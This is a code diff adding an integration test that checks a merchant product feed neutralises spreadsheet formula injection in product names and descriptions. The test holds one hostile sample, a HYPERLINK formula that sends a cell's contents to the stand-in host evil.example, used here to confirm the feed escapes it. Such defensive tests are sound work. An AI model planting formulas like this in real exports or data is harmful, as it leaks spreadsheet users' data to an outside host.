@@ -3,6 +3,7 @@ import { promisify } from 'node:util';
 import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startServer, type RunningServer } from '../support/server';
+import { accountClient } from './account-client';
 
 const run = promisify(execFile);
 type Json = Record<string, any>;
@@ -136,5 +137,30 @@ describe('merchant listings: structured data and feeds follow the catalogue', ()
     expect(after.items.get(sku)!.price).toBe(`${newPrice.toFixed(2)} NGN`);
     expect((await metaFeed(server, 'NG')).get(sku)!.price).toBe(`${newPrice.toFixed(2)} NGN`);
     expect((await googleFeed(server, 'NG', { 'if-none-match': after.etag! })).status).toBe(304);
+  });
+
+  it('a product a staff account names or describes as a spreadsheet formula comes out of the Meta feed as text', async () => {
+    const owner = await accountClient(server.baseUrl).signInOwner();
+    const admin = (path: string, body?: Json) =>
+      fetch(`${server.baseUrl}/api/v1/admin/products/${nigerian}${path}`, {
+        method: body ? 'POST' : 'GET',
+        headers: { authorization: `Bearer ${owner}`, ...(body ? { 'content-type': 'application/json' } : {}) },
+        body: body && JSON.stringify(body),
+      });
+    const { product } = ((await (await admin('')).json()) as Json).data;
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const saved = await admin('', { name, description: '=1+1', categoryId: product.categoryId, active: true });
+    expect(saved.status).toBe(200);
+    // The feed is brought up to date in the background: the next fetches see the new words.
+    let rows: Json[] = [];
+    for (const started = Date.now(); Date.now() - started < 5000; await new Promise((r) => setTimeout(r, 100))) {
+      rows = [...(await metaFeed(server, 'NG')).values()].filter((r) => r.item_group_id === String(nigerian));
+      if (rows.length > 0 && rows.every((r) => r.description !== product.description)) break;
+    }
+    expect(rows.length).toBeGreaterThan(0);
+    for (const row of rows) {
+      expect(row.title.startsWith(`'${name}`)).toBe(true);
+      expect(row.description).toBe("'=1+1");
+    }
   });
 });
